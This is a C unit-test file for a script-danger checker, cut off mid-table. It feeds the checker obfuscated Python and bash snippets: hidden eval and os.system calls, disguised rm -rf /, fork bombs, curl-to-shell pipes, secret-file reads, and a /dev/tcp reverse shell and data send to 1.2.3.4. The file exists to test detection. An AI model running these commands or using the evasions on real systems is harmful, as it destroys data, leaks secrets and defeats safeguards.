/* SPDX-License-Identifier: Apache-2.0 */
#include "unit.h"

#include "base/buf.h"
#include "base/cleanup.h"
#include "check/danger_rules.h"
#include "check/tree.h"

/* VALD-04: every danger rule finds its positive example and leaves its negative alone, so a rule
 * that is taken away or loosened fails here; names are resolved, text is not. */

static void find(const char *text, enum bj_language language, struct bj_findings *findings)
{
	const struct bj_check_request request = {
		.language = language,
		.text = text,
		.size = strlen(text),
		.policy = BJ_POLICY_STRICT,
	};
	struct bj_tree *tree = NULL;
	struct bj_err err = { 0 };

	assert_int_equal(bj_tree_new(&request, &tree, &err), 0);
	assert_int_equal(bj_layer_dangers(&request, tree, NULL, 0, findings, &err), 0);
	bj_tree_free(tree);
}

static bool finds(const char *text, enum bj_language language, const char *rule)
{
	struct bj_findings findings = { 0 };
	bool found = false;

	find(text, language, &findings);
	for (size_t i = 0; i < findings.n; i++)
		found |= !strcmp(findings.items[i].rule->id, rule);
	bj_findings_done(&findings);
	return found;
}

/* The highest severity found, -1: none. */
static int worst(const char *text, enum bj_language language)
{
	struct bj_findings findings = { 0 };
	int most = -1;

	find(text, language, &findings);
	for (size_t i = 0; i < findings.n; i++)
		if ((int)findings.items[i].rule->severity > most)
			most = (int)findings.items[i].rule->severity;
	bj_findings_done(&findings);
	return most;
}

static bool by_code(const char *id)
{
	return !strcmp(id, "py-gave-up") || !strcmp(id, "sh-gave-up");
}

static void every_rule_holds_by_its_examples(void **state)
{
	size_t n, python = 0, bash = 0, wrong = 0;
	const struct bj_rule *rules = bj_rules_dangers(&n);

	(void)state;
	for (size_t i = 0; i < n; i++) {
		const enum bj_language language = (enum bj_language)rules[i].language;

		*(language == BJ_LANG_PYTHON ? &python : &bash) += 1;
		if (!by_code(rules[i].id) && !finds(rules[i].positive, language, rules[i].id)) {
			print_error("%s does not find its positive example\n", rules[i].id);
			wrong++;
		}
		if (finds(rules[i].negative, language, rules[i].id)) {
			print_error("%s finds its negative example\n", rules[i].id);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
	assert_true(python >= 40);
	assert_true(bash >= 40);
}

/* The ways to say eval, os.system and import without writing them. */
static const struct {
	const char *text;
	const char *rule;
} hidden[] = {
	{ "from os import system as s\ns('x')\n", "py-os-system" },
	{ "def f():\n    open(f'/etc/{name}')\nname = 'shadow'\n", "py-secret-file" },
	{ "def f():\n    open('/etc/' + name)\nname = 'shadow'\n", "py-secret-file" },
	{ "import os as o\no.system('x')\n", "py-os-system" },
	{ "from os import *\nsystem('x')\n", "py-os-system" },
	{ "__import__('o' + 's').system('x')\n", "py-os-system" },
	{ "__import__('so'[::-1]).system('x')\n", "py-os-system" },
	{ "import importlib as i\ni.import_module('os').system('x')\n", "py-os-system" },
	{ "import os\ngetattr(os, 'sys' + 'tem')('x')\n", "py-os-system" },
	{ "import os\na = 'sys'\nb = 'tem'\ngetattr(os, a + b)('x')\n", "py-os-system" },
	{ "import os\ngetattr(os, f'sys{\"tem\"}')('x')\n", "py-os-system" },
	{ "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('x')\n", "py-os-system" },
	{ "import os\ngetattr(os, 'sys{}'.format('tem'))('x')\n", "py-os-system" },
	{ "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')\n", "py-os-system" },
	{ "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('x')\n",
	  "py-os-system" },
	{ "import os\ngetattr(os, b'system'.decode())('x')\n", "py-os-system" },
	{ "import os\ngetattr(os, '\\x73ystem')('x')\n", "py-os-system" },
	{ "import os\nos.__dict__['system']('x')\n", "py-os-system" },
	{ "import os\nvars(os)['system']('x')\n", "py-os-system" },
	{ "import os\nos.__getattribute__('system')('x')\n", "py-os-system" },
	{ "import sys\nsys.modules['os'].system('x')\n", "py-os-system" },
	{ "import os, operator\noperator.attrgetter('system')(os)('x')\n", "py-os-system" },
	{ "import os, operator\nget = operator.attrgetter('system')\nget(os)('x')\n",
	  "py-os-system" },
	{ "import importlib.util as u\nu.find_spec('os').loader.load_module('os').system('x')\n",
	  "py-os-system" },
	{ "(lambda f: f('os').system('x'))(__import__)\n", "py-import-handed" },
	{ "import subprocess\nclass P(subprocess.Popen):\n    pass\nP('x', shell=True)\n",
	  "py-subprocess-shell" },
	{ "import builtins\nbuiltins.__dict__['print'] = builtins.exec\n", "py-builtins-changed" },
	{ "c = {'formatters': {'x': {'()': 'os.system', 'command': 'x'}}}\n", "py-os-system" },
	{ "import os, functools\nfunctools.partial(os.system, 'x')()\n", "py-os-system" },
	{ "import shutil\nshutil.os.system('x')\n", "py-os-system" },
	{ "import os\nclass A:\n    run = os.system\nA().run('x')\n", "py-os-system" },
	{ "import os\nclass A:\n    def __init__(self):\n        self.r = os.system\n"
	  "    def go(self):\n        self.r('x')\n",
	  "py-os-system" },
	{ "import base64\nimport os\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')\n",
	  "py-os-system" },
	{ "import os\nfor f in [os.system]:\n    f('x')\n", "py-os-system" },
	{ "e = eval\ne('x')\n", "py-eval" },
	{ "def f(g=eval):\n    g('x')\n", "py-eval" },
	{ "d = {'a': eval}\nd['a']('x')\n", "py-eval" },
	{ "[eval][0]('x')\n", "py-eval" },
	{ "(lambda: eval)()('x')\n", "py-eval" },
	{ "def f():\n    return eval\nf()('x')\n", "py-eval" },
	{ "(eval if x else eval)('x')\n", "py-eval" },
	{ "(e := eval)('x')\n", "py-eval" },
	{ "list(map(eval, lines))\n", "py-eval" },
	{ "__builtins__['eval']('x')\n", "py-eval" },
	{ "__builtins__.eval('x')\n", "py-eval" },
	{ "__builtins__.__dict__['ev' + 'al']('x')\n", "py-eval" },
	{ "globals()['__builtins__']['eval']('x')\n", "py-eval" },
	{ "globals()['__builtins__'].eval('x')\n", "py-eval" },
	{ "getattr(__builtins__, 'ev' 'al')('x')\n", "py-eval" },
	{ "import builtins as b\nb.eval('x')\n", "py-eval" },
	{ "from builtins import eval as e\ne('x')\n", "py-eval" },
	{ "\xef\xbd\x85val('x')\n", "py-eval" },
	{ "def eval(x):\n    pass\ndel eval\neval('x')\n", "py-eval" },
	{ "eval('x')\ndef eval(x):\n    pass\n", "py-eval" },
	{ "if 0:\n    def eval(x):\n        pass\neval('x')\n", "py-eval" },
	{ "eval = eval\neval('x')\n", "py-eval" },
	{ "@eval\ndef f(): pass\n", "py-eval" },
	{ "def f():\n    late('x')\nlate = eval\nf()\n", "py-eval" },
	{ "import subprocess\nsubprocess.run('x', **{'shell': True})\n", "py-subprocess-shell" },
	{ "import subprocess\nsubprocess.Popen('x', shell=1)\n", "py-subprocess-shell" },
	{ "import threading, os\nthreading.Thread(target=os.system, args=('x',))\n",
	  "py-os-system" },
	{ "''.__class__.__mro__[1].__subclasses__()[3]('x')\n", "py-object-walk" },
	{ "type.__getattribute__(object, '__subclasses__')()\n", "py-object-walk" },
	{ "import operator\noperator.attrgetter('__class__.__base__.__subclasses__')(())()\n",
	  "py-object-walk" },
	{ "[f('x') for g in [0] if (f := eval)]\n", "py-eval" },
	{ "[print, eval][-1:][0]('x')\n", "py-eval" },
	{ "match eval:\n    case f:\n        f('x')\n", "py-eval" },
	{ "def s():\n    r = None\n    def t():\n        nonlocal r\n        r = eval\n"
	  "    t()\n    r('x')\n",
	  "py-eval" },
	{ "def f():\n    [eval for eval in []]\n    eval('x')\n", "py-eval" },
	{ "def f(k):\n    eval(k).__doc__ = 'x'\n", "py-eval" },
	{ "import os\ngetattr(os, '\\N{LATIN SMALL LETTER S}ystem')('x')\n", "py-os-system" },
	{ "from tempfile import _os\n_os.system('x')\n", "py-os-system" },
	{ "import random\nrandom._os.system('x')\n", "py-os-system" },
	{ "import os\nclass E:\n    def __reduce__(self):\n        return os.system, ('x',)\n",
	  "py-os-system" },
	{ "def f(): pass\ndef g(): pass\nf.__code__ = g.__code__\n", "py-code-changed" },
	{ "import subprocess\no = {'shell': True}\nsubprocess.run('x', **o)\n",
	  "py-subprocess-shell" },
	{ "import subprocess\nsubprocess.run('x', **dict(shell=True))\n", "py-subprocess-shell" },
	{ "import subprocess\nsubprocess.Popen('x', -1, None, None, None, None, None, True, "
	  "True)\n",
	  "py-subprocess-shell" },
	{ "import subprocess\nsubprocess.run('rm -rf /'.split())\n", "py-subprocess-destroy" },
	{ "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import os; "
	  "os.system('x')\"])\n",
	  "py-subprocess-destroy" },
	{ "import os\nopen(os.environ['HOME'] + '/.ssh/id_rsa')\n", "py-secret-file" },
	{ "import os, stat\nos.chmod('x', stat.S_ISUID | 0o755)\n", "py-chmod-setuid" },
	{ "dict(vars(__builtins__))['exec']('x')\n", "py-exec" },
	{ "p = ['ev', 'al']\ngetattr(__builtins__, ''.join(p))('x')\n", "py-eval" },
};

static void hidden_names_are_found(void **state)
{
	size_t missed = 0;

	(void)state;
	for (size_t i = 0; i < BJ_ARRAY_SIZE(hidden); i++)
		if (!finds(hidden[i].text, BJ_LANG_PYTHON, hidden[i].rule)) {
			print_error("not found as %s:\n%s\n", hidden[i].rule, hidden[i].text);
			missed++;
		}
	assert_int_equal(missed, 0);
}

static const struct {
	const char *text;
	const char *rule;
} hidden_shell[] = {
	{ "r\\m -rf /\n", "sh-rm-root" },
	{ "r''m -rf /\n", "sh-rm-root" },
	{ "\"rm\" -rf /\n", "sh-rm-root" },
	{ "$'\\x72m' -rf /\n", "sh-rm-root" },
	{ "x=rm\n$x -rf /\n", "sh-rm-root" },
	{ "rm${IFS}-rf${IFS}/\n", "sh-rm-root" },
	{ "$(echo rm) -rf /\n", "sh-rm-root" },
	{ "/bin/rm --recursive --force /\n", "sh-rm-root" },
	{ "sudo -u root env A=b nohup rm -rf /\n", "sh-rm-root" },
	{ "command rm -rf //\n", "sh-rm-root" },
	{ "rm -rf /etc/../\n", "sh-rm-root" },
	{ "rm -rf $HOME\n", "sh-rm-root" },
	{ "rm -rf ~/*\n", "sh-rm-root" },
	{ "busybox rm -rf /\n", "sh-rm-root" },
	{ "find / | xargs rm -rf /\n", "sh-rm-root" },
	{ "bash -c 'rm -rf /'\n", "sh-rm-root" },
	{ "eval 'rm -rf /'\n", "sh-rm-root" },
	{ "echo 'rm -rf /' | sh\n", "sh-rm-root" },
	{ "bash <<X\nrm -rf /\nX\n", "sh-rm-root" },
	{ "trap 'rm -rf /' EXIT\n", "sh-rm-root" },
	{ "if true; then rm -rf /; fi\n", "sh-rm-root" },
	{ "f() { rm -rf /; }\n", "sh-rm-root" },
	{ "x=$(rm -rf /)\n", "sh-rm-root" },
	{ "c=rm\nc+=' -rf /'\n$c\n", "sh-rm-root" },
	{ "$(printf '\\x72\\155') -rf /\n", "sh-rm-root" },
	{ "$(printf '%s%b' r '\\0155') -rf /\n", "sh-rm-root" },
	{ "$(echo -e '\\x72m -rf /')\n", "sh-rm-root" },
	{ "a=(r m)\n${a[0]}${a[1]} -rf /\n", "sh-rm-root" },
	{ "x=xrmx\n${x:1:2} -rf /\n", "sh-rm-root" },
	{ "x=xrm\n${x: -2} -rf /\n", "sh-rm-root" },
	{ "x=rZm\n${x/Z/} -rf /\n", "sh-rm-root" },
	{ "x=rZmZ\n${x//Z} -rf /\n", "sh-rm-root" },
	{ "x=rm.txt\n${x%.*} -rf /\n", "sh-rm-root" },
	{ "x=a/b/rm\n${x##*/} -rf /\n", "sh-rm-root" },
	{ "x=RM\n${x,,} -rf /\n", "sh-rm-root" },
	{ "y=rm\nz=y\n${!z} -rf /\n", "sh-rm-root" },
	{ "x=rm\n${x:-5} -rf /\n", "sh-rm-root" },
	{ "x=rm\n${x:?} -rf /\n", "sh-rm-root" },
	{ "for d in a; do ls $d; done\nfor d in /; do rm -rf $d; done\n", "sh-rm-root" },
	{ "printf -v c 'rm -rf %s' /\n$c\n", "sh-rm-root" },
	{ "read -r c <<< 'rm -rf /'\n$c\n", "sh-rm-root" },
	{ "for d in /bin /usr; do rm -rf \"$d\"; done\n", "sh-rm-root" },
	{ "f() { \"$@\"; }\nf rm -rf /\n", "sh-rm-root" },
	{ "f() { shift; \"$@\"; }\nf 3 rm -rf /\n", "sh-rm-root" },
	{ "clean() { rm -rf \"$1\"; }\nclean /\n", "sh-rm-root" },
	{ "for d in bin etc; do rm -rf /$d; done\n", "sh-rm-root" },
	{ "for d in sda sdb; do dd if=/dev/zero | tee \"/dev/$d\"; done\n", "sh-device-arg" },
	{ "${HOME:0:1}bin${PATH:0:1}rm -rf ${PWD:0:1}\n", "sh-rm-root" },
	{ "$SHELL -c 'rm -rf /'\n", "sh-rm-root" },
	{ "curl x | $BASH\n", "sh-curl-shell" },
	{ "xargs rm -rf <<< '/ /home'\n", "sh-rm-root" },
	{ "echo '/etc /usr' | xargs rm -rf\n", "sh-rm-found" },
	{ "$(rev <<< mr) -rf /\n", "sh-hidden-command" },
	{ "base64 -d <<< bHM= > x.sh\nsh ./x.sh\n", "sh-decoded-run" },
	{ "git -c core.pager='rm -rf /' log\n", "sh-rm-root" },
	{ "git config alias.x '!rm -rf /'\n", "sh-rm-root" },
	{ "cat > x.sh <<'E'\nrm -rf /\nE\nbash x.sh\n", "sh-rm-root" },
	{ "cat <<'E' > x.sh\nrm -rf /\nE\nchmod +x x.sh\n./x.sh\n", "sh-rm-root" },
	{ "tee x.sh <<E >/dev/null\nrm -rf /\nE\n. ./x.sh\n", "sh-rm-root" },
	{ "cat > x <<E\n#!/usr/bin/env python3\nimport os\nos.system(x)\nE\n./x\n",
	  "py-os-system" },
	{ "echo 'rm -rf /' > x\nsh x\n", "sh-rm-root" },
	{ "cat > x.py <<E\neval('x')\nE\nchmod +x x.py; ./x.py\n", "py-eval" },
	{ "cat > x.py <<E\neval('x')\nE\npython3 x.py\n", "py-eval" },
	{ "clean() { rm -rf \"$@\"; }\nclean build /usr\n", "sh-rm-root" },
	{ "watch -n 9 'rm -rf /'\n", "sh-rm-root" },
	{ "script -qc 'rm -rf /' /dev/null\n", "sh-rm-root" },
	{ "cd; rm -rf *\n", "sh-rm-here" },
	{ "echo / | xargs rm -rf\n", "sh-rm-found" },
	{ ":(){ :|:& };:\n", "sh-fork-bomb" },
	{ "bomb() { bomb | bomb & }; bomb\n", "sh-fork-bomb" },
	{ "function f { f & f; }; f\n", "sh-fork-bomb" },
	{ "wget -qO- http://x | sh\n", "sh-curl-shell" },
	{ "curl x | tee y | bash -s --\n", "sh-curl-shell" },
	{ "sh -c \"$(curl -fsSL x)\"\n", "sh-curl-substitution" },
	{ "source <(curl x)\n", "sh-curl-substitution" },
	{ "eval `wget -O- x`\n", "sh-curl-substitution" },
	{ "python3 -c 'import os; os.system(\"x\")'\n", "py-os-system" },
	{ "python3 <<X\neval('x')\nX\n", "py-eval" },
	{ "exec 3<>/dev/tcp/1.2.3.4/80\n", "sh-dev-tcp" },
	{ "wget -q https://x.test/i.sh -P /tmp\nsh /tmp/i.sh\n", "sh-download-run" },
	{ "shopt -s extglob\nrm -rf /!(proc)\n", "sh-rm-root" },
	{ "shopt -s extglob\ncd /; rm -rf !(proc|sys)\n", "sh-rm-here" },
	{ "# extglob\nls +(a)\nif !(reboot); then :; fi\n", "sh-shutdown" },
	{ "$(which rm) -rf /\n", "sh-rm-root" },
	{ "`command -v rm` -rf /\n", "sh-rm-root" },
	{ "declare -n r=t\nt=/\nrm -rf $r\n", "sh-rm-root" },
	{ "declare -n c=x\nx='rm -rf /'\n$c\n", "sh-rm-root" },
	{ "v=/tmp\nv=${v%tmp}\nrm -rf $v\n", "sh-rm-root" },
	{ "v=r\nv=\"${v}m\"\n$v -rf /\n", "sh-rm-root" },
	{ ": ${T:=/}\nrm -rf $T\n", "sh-rm-root" },
	{ "rm -rf \"${T:=/}\"\n", "sh-rm-root" },
	{ "make -f - <<'X'\nall:\n\t@rm -rf /\nX\n", "sh-rm-root" },
	{ "make -f- x <<X\nx:\n\trm -rf /\nX\n", "sh-rm-root" },
	{ "make --file=/dev/stdin <<X\nx:\n\trm -rf /\nX\n", "sh-rm-root" },
	{ "printf 'all:\\n\\trm -rf /\\n' | make -f -\n", "sh-rm-root" },
	{ "cat > Makefile <<X\nall:\n\trm -rf /\nX\nmake\n", "sh-rm-root" },
	{ "cat > b.mk <<X\nall:\n\t-rm -rf /\nX\nmake -sf b.mk all\n", "sh-rm-root" },
	{ "tee x.sh <<< 'rm -rf ~' >/dev/null\n. ./x.sh\n", "sh-rm-root" },
	{ "c=\"$(<payload)\"\n$c\n", "sh-hidden-command" },
	{ "rm -rf /???\n", "sh-rm-root" },
	{ "echo \"$x\" > /dev/tcp/1.2.3.4/80\n", "sh-dev-tcp" },
	{ "cat /etc/hosts > /dev/tcp/1.2.3.4/80\n", "sh-dev-tcp" },
	{ "0<&196;exec 196<>/dev/tcp/1.2.3.4/80; sh <&196 >&196 2>&196\n", "sh-dev-tcp" },
};

static void hidden_commands_are_found(void **state)
{
	size_t missed = 0;

	(void)state;
	for (size_t i = 0; i < BJ_ARRAY_SIZE(hidden_shell); i++)
		if (!finds(hidden_shell[i].text, BJ_LANG_BASH, hidden_shell[i].rule)) {
			print_error("not found as %s:\n%s\n", hidden_shell[i].rule,
				    hidden_shell[i].text);
			missed++;
		}
	assert_int_equal(missed, 0);
}

static void own_functions_are_not_builtins(void **state)
{
	(void)state;
	assert_int_equal(worst("def eval(x):\n    return x\neval('1')\n", BJ_LANG_PYTHON),
			 BJ_SEV_LOW);
	assert_int_equal(worst("def f(exec):\n    exec('1')\n", BJ_LANG_PYTHON), BJ_SEV_LOW);
	assert_int_equal(
		worst("class A:\n    def exec(self):\n        self.exec()\n", BJ_LANG_PYTHON), -1);
	assert_int_equal(
		worst("class A:\n    def eval(self):\n        eval('x')\n", BJ_LANG_PYTHON),
		BJ_SEV_HIGH);
}

/* What is followed must not make an alarm of what is not there. */
static void what_is_followed_is_not_guessed(void **state)
{
	(void)state;
	assert_int_equal(
		worst("for d in /usr /opt; do rm -rf \"$d/app/cache\"; done\n", BJ_LANG_BASH), -1);
	assert_int_equal(
		worst("clean() { rm -rf \"$1\"; }\nclean build\nclean /tmp/x\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("run() { echo \"+ $*\"; \"$@\"; }\nrun ls /\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("log() { echo \"$@\"; }\nlog rm -rf /\n", BJ_LANG_BASH), -1);
	assert_int_equal(
		worst("for d in a b; do rm -rf \"/srv/app/$d/cache\"; done\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("cat > x.txt <<E\nrm -rf /\nE\nbash y.sh\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("cat > x.sh <<E\nls\nE\nbash x.sh\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("base64 -d x > logo.png\nbash build.sh\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("class A(object):\n    pass\nA.__subclasses__()\n", BJ_LANG_PYTHON),
			 -1);
	assert_int_equal(worst("import pickle\nclass U(pickle.Unpickler):\n    pass\nU(f).load()\n",
			       BJ_LANG_PYTHON),
			 -1);
	assert_int_equal(worst("import os\nold = os.umask(0)\nos.umask(old)\n", BJ_LANG_PYTHON),
			 -1);
	assert_int_equal(worst("x=/etc/app.conf\nrm -f \"${x%.conf}.bak\"\n", BJ_LANG_BASH), -1);
	assert_int_equal(
		worst("printf 'clean:\\n\\trm -rf $(OUT)/x build\\n' | make -f -\n", BJ_LANG_BASH),
		-1);
	assert_int_equal(worst("cat > Makefile <<'X'\nclean:\n\trm -rf $(OUT)/* build\nX\nmake\n",
			       BJ_LANG_BASH),
			 -1);
	assert_int_equal(worst("p=/srv/app/x\np=${p%/*}\nrm -rf \"$p/cache\"\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("f() { local -n out=$1; out=$(date); }\nf now\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("bash -c \"</dev/tcp/$host/$port\" && echo up\n", BJ_LANG_BASH),
			 BJ_SEV_MEDIUM);
	assert_int_equal(worst("cat < /dev/null > /dev/tcp/db/5432\n", BJ_LANG_BASH),
			 BJ_SEV_MEDIUM);
	assert_int_equal(
		worst("shopt -s extglob\nrm -v !(*.jpg|*.gif)\nls +([0-9]).txt \"$d\"/@(a|b)*\n",
		      BJ_LANG_BASH),
		-1);
	assert_int_equal(worst("</dev/tcp/db/5432\n", BJ_LANG_BASH), BJ_SEV_MEDIUM);
	assert_int_equal(worst("until echo > /dev/tcp/db/5432; do sleep 1; done\n", BJ_LANG_BASH),
			 BJ_SEV_MEDIUM);
	assert_int_equal(
		worst("bash -c '</dev/tcp/db/5432' 2>/dev/null && echo up\n", BJ_LANG_BASH),
		BJ_SEV_MEDIUM);
	assert_int_equal(worst("set -- /\nf() { rm -rf \"$1\"; }\nf build\n", BJ_LANG_BASH), -1);
	/* A name that a function imports is its own, on every way through it. */
	assert_int_equal(worst("def f(x):\n    if x:\n        from a import eval\n"
			       "        eval('x')\n",
			       BJ_LANG_PYTHON),
			 -1);
}

static void words_in_text_are_not_calls(void **state)
{
	(void)state;
	assert_int_equal(
		worst("# eval('x')\ns = \"os.system('x')\"\n'''exec(1)'''\n", BJ_LANG_PYTHON), -1);
	assert_int_equal(
		worst("# rm -rf /\necho 'rm -rf /'\nprintf \"%s\" ':(){ :|:& };:'\n", BJ_LANG_BASH),
		-1);
}

/* What bash accepts and the grammar does not is mended where that can be done; the rest is a
 * finding. */
static void gaps_of_the_grammar_are_mended(void **state)
{
	(void)state;
	assert_int_equal(worst("for f do echo \"$f\"; done\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("exec 3<>file\n", BJ_LANG_BASH), -1);
	assert_int_equal(worst("[ \"$a\" = ~ ] && echo home\n", BJ_LANG_BASH), -1);
	assert_true(finds("for f do rm -rf /; done\n", BJ_LANG_BASH, "sh-rm-root"));
	assert_true(finds("{rm,-rf,/}\n", BJ_LANG_BASH, "sh-unparsed"));
	/* A pipeline ends with its line, whatever the next one holds. */
	assert_true(finds("a | b | c\nrm -rf / >d\n", BJ_LANG_BASH, "sh-rm-root"));
	assert_true(finds("a | b | c\nrm -rf / && d\n", BJ_LANG_BASH, "sh-rm-root"));
	assert_true(finds("a | b |& c | d\nrm -rf / <<E\nE\n", BJ_LANG_BASH, "sh-rm-root"));
	assert_true(finds("a | b | c && rm -rf /\n", BJ_LANG_BASH, "sh-rm-root"));
}

/* A long constant handed to a shell over and over is not read over and over. */
static void nested_text_has_a_ceiling(void **state)
{
	AUTO_BUF struct bj_buf text = { 0 };

	(void)state;
	bj_buf_printf(&text, "x='%0400d'\n", 0);
	for (int i = 0; i < 2000; i++)
		bj_buf_puts(&text, "eval $x\n");
	assert_true(finds(text.data, BJ_LANG_BASH, "sh-gave-up"));
}

/* A row of commands, each with all words of a loop, is not read to its end; loops that share words
 * and a variable cost no more than one. */
/* Of a makefile with more lines than are read, the first are. */
static void recipes_have_a_ceiling(void **state)
{
	AUTO_BUF struct bj_buf text = { 0 };

	(void)state;
	bj_buf_puts(&text, "cat > Makefile <<'X'\na:\n\trm -rf /\n");
	for (size_t i = 0; i < 20000; i++)
		bj_buf_puts(&text, "\tls\n");
	bj_buf_puts(&text, "X\nmake\n");
	assert_true(finds(text.data, BJ_LANG_BASH, "sh-rm-root"));
}

static void words_of_loops_have_a_ceiling(void **state)
{
	AUTO_BUF struct bj_buf text = { 0 };
	AUTO_BUF struct bj_buf honest = { 0 };

	(void)state;
	bj_buf_puts(&text, "for d in");
	for (int i = 0; i < 60; i++)
		bj_buf_printf(&text, " /a/%d", i);
	bj_buf_puts(&text, "; do\n");
	for (int i = 0; i < 950; i++)
		bj_buf_puts(&text, "rm $d\n");
	bj_buf_puts(&text, "done\n");
	assert_true(finds(text.data, BJ_LANG_BASH, "sh-gave-up"));
	for (int i = 0; i < 300; i++)
		bj_buf_puts(&honest, "for d in a b; do echo \"$d\"; done\n");
	assert_int_equal(worst(honest.data, BJ_LANG_BASH), -1);
	bj_buf_puts(&honest, "for d in c /; do rm -rf \"$d\"; done\n");
	assert_true(finds(honest.data, BJ_LANG_BASH, "sh-rm-root"));
	/* Paths that a loop is only a part of are left alone when there are too many. */
	honest.size = 0;
	bj_buf_puts(&honest, "for d in");
	for (int i = 0; i < 60; i++)
		bj_buf_printf(&honest, " user%d", i);
	bj_buf_puts(&honest, "; do\n");
	for (int i = 0; i < 100; i++)
		bj_buf_puts(&honest, "ls /srv/$d/x\n");
	bj_buf_puts(&honest, "done\n");
	assert_int_equal(worst(honest.data, BJ_LANG_BASH), -1);
}

/* The grammar keeps what it waits for in a buffer: a script that needs more of it is a finding, and
 * nothing is written behind its end, whatever the words are. */
static void open_documents_have_a_ceiling(void **state)
{
	(void)state;
	for (int len = 1; len <= 40; len++) {
		AUTO_BUF struct bj_buf text = { 0 };
		AUTO_BUF struct bj_buf nested = { 0 };

		for (int i = 0; i < 200; i++) {
			bj_buf_printf(&text, "cat <<%0*d ", len, 0);
			bj_buf_printf(&nested, "cat <<%0*d $(cat <<Y\n", len, 0);
		}
		assert_true(finds(text.data, BJ_LANG_BASH, "sh-gave-up"));
		assert_true(finds(nested.data, BJ_LANG_BASH, "sh-gave-up"));
	}

	AUTO_BUF struct bj_buf honest = { 0 };

	for (int i = 0; i < 400; i++)
		bj_buf_printf(&honest, "cat <<END%d\ntext\nEND%d\n", i, i);
	assert_int_equal(worst(honest.data, BJ_LANG_BASH), -1);
}

/* A script for which the parser gave up is never let through. */
static void giving_up_is_a_finding(void **state)
{
	const struct bj_check_request request = { .language = BJ_LANG_PYTHON, .text = "" };
	const struct bj_tree tree = { .language = BJ_LANG_PYTHON, .text = "", .gave_up = true };
	struct bj_findings findings = { 0 };

	(void)state;
	assert_int_equal(bj_layer_dangers(&request, &tree, NULL, 0, &findings, NULL), 0);
	assert_int_equal(findings.n, 1);
	assert_string_equal(findings.items[0].rule->id, "py-gave-up");
	bj_findings_done(&findings);
}

static void rules_of_the_user_are_found(void **state)
{
	const struct bj_call_rule extra = {
		.rule = { .id = "mine",
			  .layer = "dangers",
			  .language = BJ_RULE_PYTHON,
			  .severity = BJ_SEV_HIGH,
			  .message = "No." },
		.call = "json.dumps",
	};
	const char *text = "from json import dumps as d\nd({})\n";
	const struct bj_check_request request = { .text = text, .size = strlen(text) };
	struct bj_findings findings = { 0 };
	struct bj_tree *tree = NULL;

	(void)state;
	assert_int_equal(bj_tree_new(&request, &tree, NULL), 0);
	assert_int_equal(bj_layer_dangers(&request, tree, &extra, 1, &findings, NULL), 0);
	assert_int_equal(findings.n, 1);
	assert_string_equal(findings.items[0].rule->id, "mine");
	assert_int_equal(findings.items[0].start, 28);
	bj_findings_done(&findings);
	bj_tree_free(tree);
}

/* What a visitor of a page sends, on its way to where it decides something. */
static const struct {
	const char *text;
	const char *rule;
} sent[] = {
	{ "from flask import request\ndef f():\n    a = request.args['a']\n    b = '/srv/' + a\n"
	  "    open(b)\n",
	  "py-web-path" },
	{ "from flask import request\nopen(f\"/srv/{request.args.get('a', 'b')}\")\n",
	  "py-web-path" },
	{ "from flask import request\nopen('/srv/{}'.format(request.form['a'].strip()))\n",
	  "py-web-path" },
	{ "from flask import request\nopen('/srv/%s' % request.cookies['a'])\n", "py-web-path" },
	{ "from flask import request\nopen('/'.join(['srv', request.args['a']]))\n",
	  "py-web-path" },
	{ "from flask import request\ndef g(x):\n    return '/srv/' + x\n"
	  "open(g(request.args['a']))\n",
	  "py-web-path" },
	{ "import os\nfrom flask import request\na = request.args['a']\n"
	  "open(os.path.join('/srv', os.path.normpath(a)))\n",
	  "py-web-path" },
	{ "from flask import request\nfor n in request.form:\n    open(n)\n", "py-web-path" },
	{ "from flask import request\na = 'x'\na += request.args['a']\nopen(a)\n", "py-web-path" },
	{ "from flask import request\nd = {}\nd['k'] = request.args['a']\nopen(d['k'])\n",
	  "py-web-path" },
	{ "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/{n}')\ndef f(n: str):\n"
	  "    return open(n).read()\n",
	  "py-web-path" },
	{ "def view(request):\n    open(request.GET['a'])\n", "py-web-path" },
	{ "def handler(event, context):\n    return open(event['name']).read()\n", "py-web-path" },
	{ "import cgi\nform = cgi.FieldStorage()\nopen(form['a'].value)\n", "py-web-path" },
	{ "def f(user_input):\n    open(user_input)\n", "py-web-path" },
	{ "import tornado.web\nclass H(tornado.web.RequestHandler):\n    def get(self):\n"
	  "        open(self.get_argument('a'))\n",
	  "py-web-path" },
	{ "import requests\nfrom flask import request\nu = 'https://' + request.args['h'] + '/x'\n"
	  "requests.get(u)\n",
	  "py-web-input" },
	{ "import requests\nfrom flask import request\n"
	  "requests.get('http://%s/x' % request.args['h'])\n",
	  "py-web-input" },
	{ "from flask import redirect, request\nredirect('//' + request.args['n'])\n",
	  "py-web-redirect" },
	{ "from flask import Flask, request\napp = Flask('x')\n@app.route('/')\ndef f():\n"
	  "    r = ''\n    r += f\"<p>{request.args['a']}\"\n    return r, 404\n",
	  "py-web-page-returned" },
};

/* What a test has looked at, what became a number, and what only looks like a request. */
static const char *const tested[] = {
	"from flask import request\na = request.args['a']\nif a in ('x', 'y'):\n    open(a)\n",
	"from flask import request\na = request.args['a']\nif not a.isalnum():\n    "
	"stop()\nopen(a)\n",
	"from flask import request\na = request.args['a']\nif '..' in a:\n    stop()\nopen(a)\n",
	"import os\nfrom flask import request\na = os.path.realpath('/srv/' + request.args['a'])\n"
	"if not a.startswith(BASE):\n    stop()\nopen(a)\n",
	"from flask import request\na = request.args['a']\nif not is_allowed(a):\n    "
	"stop()\nopen(a)\n",
	"from flask import request\nopen(f\"/srv/{int(request.args['a'])}\")\n",
	"from flask import request\nopen('/srv/' + str(request.args.get('a', 1, type=int)))\n",
	"from flask import request\nopen(names[request.args['a']])\n",
	"from flask import request\nopen(lookup(request.args['a']))\n",
